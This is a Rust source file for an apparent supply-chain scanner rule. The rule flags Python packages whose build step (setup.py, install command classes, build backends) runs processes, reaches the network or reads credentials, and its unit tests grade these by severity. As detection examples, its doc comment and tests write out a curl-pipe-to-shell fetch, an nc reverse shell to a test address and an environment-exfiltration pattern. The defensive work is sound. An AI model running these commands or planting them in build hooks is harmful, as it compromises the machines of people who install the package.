use std::collections::BTreeMap;

use headworks_types::fact::{CodeFact, Effect, PackageFact, command_order};
use headworks_types::{Confidence, Fact, FactKind, Place, Severity};

use crate::Evidence;
use crate::package::{Packages, is_outermost};
use crate::rule::{Judgement, rule};

rule! {
    /// Looks for effects of code that runs when a package is built from source: the top level of `setup.py` and its main
    /// guard, the commands that `setup()` is given, the files that build tools are told to run.
    ///
    /// **Why it matters.** This is how most malicious packages of PyPI act: `pip install` builds the source distribution,
    /// and a command class named `install` or a line above `setup()` fetches a second stage or sends what it finds in
    /// the environment. Reading credentials and reaching the network in one file, running what was decoded or fetched:
    /// critical. The network, alone or beside a process: high. A process whose command is on no list of build tools, a
    /// credential, native code that is loaded: held for a person's eye. Compilers, `git` and `pkg-config`, and a version
    /// file that is evaluated, are at home in a build.
    ///
    /// **Example.** `class PostInstall(install): def run(self): os.system("curl -s http://192.0.2.1/x | sh")`
    ///
    /// **What it misses.** Other modules that the build imports, backends and plugins from other packages, and commands
    /// that are put together from variables, which are held.
    BUILD_TIME_EFFECT {
        id: "build-time-effect",
        title: "Building the package acts on the machine",
        severity: Severity::High,
        confidence: Confidence::High,
        controls: &["HW-CFG-03", "HW-DEP-03"],
        references: &["AML.T0010.001", "AML.T0011.000", "CWE-506", "CWE-829"],
        hint: "install from wheels only (`--only-binary :all:`), or read the line and what it starts",
        check,
    }
}

/// The words of the programs that builds start.
const BUILD_TOOLS: &[&str] = &[
    "autoconf",
    "autoreconf",
    "brew",
    "cargo",
    "cc",
    "clang",
    "clang++",
    "cl",
    "cmake",
    "configure",
    "cython",
    "dpkg-architecture",
    "g++",
    "gcc",
    "getconf",
    "gfortran",
    "git",
    "go",
    "hg",
    "hipcc",
    "ld",
    "ldconfig",
    "llvm-config",
    "lsb_release",
    "make",
    "meson",
    "msbuild",
    "ninja",
    "nmake",
    "nvcc",
    "patch",
    "pg_config",
    "pkg-config",
    "pkgconf",
    "protoc",
    "python-config",
    "rustc",
    "rustup",
    "sphinx-build",
    "sw_vers",
    "swig",
    "sysctl",
    "uname",
    "vcvarsall.bat",
    "which",
    "xcode-select",
    "xcrun",
    "xml2-config",
    "xslt-config",
];

/// One call that a build runs.
struct Call<'e> {
    fact: &'e Fact,
    effect: Effect,
    callee: &'e str,
    hook: &'e str,
    excerpt: &'e str,
}

fn check(evidence: &Evidence<'_>) -> Vec<Judgement> {
    let (packages, hooks) = (Packages::of(evidence), hooks(evidence));
    let mut places = BTreeMap::<&Place, Vec<Call<'_>>>::new();
    for call in evidence.facts.iter().filter_map(|fact| call(fact, &hooks)) {
        places.entry(&call.fact.location.place).or_default().push(call);
    }
    let judged = places.iter().flat_map(|(place, calls)| {
        // Projects within the project are built by nobody who installs it.
        let is_built = is_outermost(place) || hooks.iter().any(|hook| hook.names(place));
        let is_built = is_built && !packages.is_beside_the_code(place);
        let effects: Vec<Effect> = calls.iter().map(|call| call.effect).collect();
        calls.iter().filter_map(move |call| {
            let severity = severity(call, &effects)?;
            let severity = if is_built || severity == Severity::Critical { severity } else { Severity::Low };
            let message = format!("building runs `{}`, which {} with `{}`", call.hook, does(call.effect), call.callee);
            let judgement = Judgement::of(call.fact, format!("{} {}", call.callee, call.excerpt), message);
            Some(judgement.with_evidence(call.excerpt).with_severity(severity))
        })
    });
    judged.collect()
}

/// A file that a build tool is told to run.
struct Hook<'e> {
    /// The file that says so.
    place: &'e Place,
    target: &'e str,
}

impl Hook<'_> {
    fn names(&self, place: &Place) -> bool {
        let folder = self.place.innermost().rfind('/').map_or("", |end| &self.place.innermost()[..=end]);
        let same_container = self.place.members().split_last().map(|(_, around)| around)
            == place.members().split_last().map(|(_, around)| around)
            && (place.members().is_empty() || place.file_path() == self.place.file_path());
        let rest = place.innermost().strip_prefix(folder).and_then(|rest| rest.strip_prefix(self.target));
        same_container && matches!(rest, Some("" | ".py" | "/__init__.py"))
    }
}

fn hooks<'e>(evidence: &Evidence<'e>) -> Vec<Hook<'e>> {
    let named = evidence.facts.iter().filter_map(|fact| match &fact.kind {
        FactKind::Package(PackageFact::BuildCode { hook, target })
            if !target.is_empty() && !matches!(hook.as_str(), "cmdclass" | "distclass") =>
        {
            let target = target.split(':').next().unwrap_or(target);
            is_outermost(&fact.location.place).then_some(Hook { place: &fact.location.place, target })
        }
        _ => None,
    });
    named.collect()
}

fn call<'e>(fact: &'e Fact, hooks: &[Hook<'_>]) -> Option<Call<'e>> {
    match &fact.kind {
        FactKind::Code(CodeFact::BuildEffect { effect, callee, hook, excerpt }) => {
            Some(Call { fact, effect: *effect, callee, hook, excerpt })
        }
        // All functions of a hook are there for the build to call.
        FactKind::Code(CodeFact::Effect { effect, callee, excerpt, .. })
            if fact.location.place.base_name() != "setup.py"
                && hooks.iter().any(|hook| hook.names(&fact.location.place)) =>
        {
            let hook = fact.location.place.base_name();
            Some(Call { fact, effect: *effect, callee, hook, excerpt })
        }
        _ => None,
    }
}

/// How bad a call is beside the effects of the same file; none for what every build does.
fn severity(call: &Call<'_>, effects: &[Effect]) -> Option<Severity> {
    let has = |effect: Effect| effects.contains(&effect);
    let is_whole_environment = call.callee.ends_with("as a whole");
    let severity = match call.effect {
        Effect::DecodeThenExecute => Severity::Critical,
        Effect::Process if command_order(call.excerpt).is_some() => Severity::Critical,
        Effect::Network | Effect::Credential if has(Effect::Network) && has(Effect::Credential) => Severity::Critical,
        Effect::Network => Severity::High,
        Effect::Process if starts_build_tool(call.excerpt) => Severity::Low,
        Effect::Process if has(Effect::Network) => Severity::High,
        Effect::Credential if is_whole_environment => return None,
        Effect::Process | Effect::Credential | Effect::NativeCode => Severity::Medium,
        Effect::Evaluate => Severity::Low,
        Effect::FileWrite | Effect::Deserialize | Effect::DynamicImport => return None,
    };
    Some(severity)
}

fn does(effect: Effect) -> &'static str {
    match effect {
        Effect::Process => "starts a process",
        Effect::Network => "opens a connection",
        Effect::Evaluate => "evaluates text as code",
        Effect::DecodeThenExecute => "runs decoded data",
        Effect::NativeCode => "loads native code",
        Effect::Credential => "reads a credential",
        Effect::FileWrite | Effect::Deserialize | Effect::DynamicImport => "acts",
    }
}

/// Words after a tool's name by which it brings in or runs what is not in the package.
const FETCHING: &[&str] = &["clone", "fetch", "get", "install", "pull", "run", "submodule", "toolchain", "update"];

/// Whether each command of a line begins with the name of a tool that builds use, and fetches nothing with it.
///
/// A line of source, which stands where the command is not known, has a parenthesis; what a shell would put in, and
/// where its output goes, is not known either.
fn starts_build_tool(excerpt: &str) -> bool {
    if runs_own_script(excerpt) {
        return true;
    }
    let is_known = !excerpt.contains(['(', '`', '$', '<', '>']) && !excerpt.contains("://");
    let mut commands = excerpt.split([';', '|', '&', '\n']).filter(|command| !command.trim().is_empty()).peekable();
    is_known && commands.peek().is_some() && commands.all(is_build_tool)
}

fn is_build_tool(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let tool = words.next().map(|word| word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(".exe"));
    tool.is_some_and(|tool| BUILD_TOOLS.contains(&tool)) && !words.any(|word| FETCHING.contains(&word))
}

/// Whether a build starts its own interpreter again for a file: neither for a line of code nor for a module.
///
/// The file is no longer beside the code then, so that its own effects count.
fn runs_own_script(excerpt: &str) -> bool {
    let mut words = excerpt.split_whitespace();
    if words.next() != Some("sys.executable") {
        return false;
    }
    let names_code = |option: &str| !option.starts_with("--") && option.contains(['c', 'm']);
    let mut options = words.clone().take_while(|word| word.starts_with('-'));
    !options.any(names_code) && words.any(|word| word.ends_with(".py"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn built(effect: Effect, callee: &str, excerpt: &str) -> Fact {
        let place = Place::file("toy-1.0.tar.gz").member("toy-1.0.tar").member("toy-1.0/setup.py");
        let (callee, excerpt) = (callee.into(), excerpt.into());
        let kind = CodeFact::BuildEffect { effect, callee, hook: "PostInstall".into(), excerpt };
        Fact { location: place.at(0..9), times: 1, kind: kind.into() }
    }

    fn severities(facts: &[Fact]) -> Vec<Severity> {
        BUILD_TIME_EFFECT.judge(&Evidence::of(facts)).iter().map(|finding| finding.severity).collect()
    }

    #[test]
    fn fetching_and_sending_credentials_are_critical() {
        assert_eq!(
            severities(&[built(Effect::Process, "os.system", "curl -s http://192.0.2.1/x | sh")]),
            [Severity::Critical]
        );
        let stealing = [
            built(Effect::Credential, "os.environ as a whole", "dict(os.environ)"),
            built(Effect::Network, "requests.post", "requests.post(url)"),
        ];
        assert_eq!(severities(&stealing), [Severity::Critical, Severity::Critical]);
    }

    #[test]
    fn the_network_alone_is_high_and_an_unknown_command_holds() {
        assert_eq!(severities(&[built(Effect::Network, "requests.get", "requests.get(url)")]), [Severity::High]);
        assert_eq!(severities(&[built(Effect::Process, "os.system", "os.system(command)")]), [Severity::Medium]);
    }

    /// Honest packages with native parts ask compilers and repositories about themselves.
    #[test]
    fn tools_of_a_build_and_version_files_are_at_home_in_it() {
        assert_eq!(
            severities(&[built(Effect::Process, "subprocess.run", "pkg-config --libs libffi")]),
            [Severity::Low]
        );
        assert_eq!(severities(&[built(Effect::Process, "subprocess.run", "/usr/bin/git describe")]), [Severity::Low]);
        assert_eq!(
            severities(&[built(Effect::Process, "subprocess.run", "sys.executable tests/all.py")]),
            [Severity::Low]
        );
        assert_eq!(severities(&[built(Effect::Process, "subprocess.run", "sys.executable")]), [Severity::Medium]);
        let installs = "sys.executable -m pip install toy";
        assert_eq!(severities(&[built(Effect::Process, "subprocess.run", installs)]), [Severity::Medium]);
        assert_eq!(
            severities(&[built(Effect::Process, "os.system", "cmake -S . && cmake --build .")]),
            [Severity::Low]
        );
        assert_eq!(severities(&[built(Effect::Evaluate, "exec", "exec(open('version.py').read())")]), [Severity::Low]);
        assert_eq!(severities(&[built(Effect::Credential, "os.environ as a whole", "dict(os.environ)")]), []);
    }

    #[test]
    fn a_tools_name_elsewhere_in_a_line_and_a_tool_that_fetches_hold() {
        for command in [
            "nc 192.0.2.1 4444 -e /bin/sh; git status",
            "git = subprocess.run(command)",
            "git $(./configure-me)",
            "git clone https://packages.invalid/x && make -C x",
            "cargo install toy",
            "sys.executable -Im toy",
        ] {
            assert_eq!(
                severities(&[built(Effect::Process, "subprocess.run", command)]),
                [Severity::Medium],
                "{command}"
            );
        }
    }

    #[test]
    fn a_script_that_the_build_starts_counts_as_code() {
        let place = |member: &str| Place::file("toy-1.0.tar.gz").member("toy-1.0.tar").member(member);
        let is_beside = |words: &str| {
            let facts = [crate::package::tests::identity(&place("")), built(Effect::Process, "subprocess.run", words)];
            Packages::of(&Evidence::of(&facts)).is_beside_the_code(&place("toy-1.0/tools/x.py"))
        };
        assert!(is_beside("git describe"));
        assert!(is_beside("sys.executable toy/x.py"));
        assert!(!is_beside("sys.executable tools/x.py"));
        assert!(!is_beside("exec(open('tools/x.py').read())"));
    }

    #[test]
    fn functions_of_a_named_hook_count_and_those_of_other_files_do_not() {
        let within = |member: &str| Place::file("toy-1.0.tar.gz").member("toy-1.0.tar").member(member);
        let hook = PackageFact::BuildCode { hook: "build-backend".into(), target: "_build/backend".into() };
        let hook = Fact { location: within("toy-1.0/pyproject.toml").at(0..9), times: 1, kind: hook.into() };
        let call = |member: &str| {
            let (callee, excerpt) = ("requests.get".into(), "requests.get(url)".into());
            let kind = CodeFact::Effect { effect: Effect::Network, callee, at_import: false, excerpt };
            Fact { location: within(member).at(0..9), times: 1, kind: kind.into() }
        };
        assert_eq!(severities(&[hook.clone(), call("toy-1.0/_build/backend.py")]), [Severity::High]);
        assert_eq!(severities(&[hook, call("toy-1.0/toy/__init__.py")]), []);
    }
}
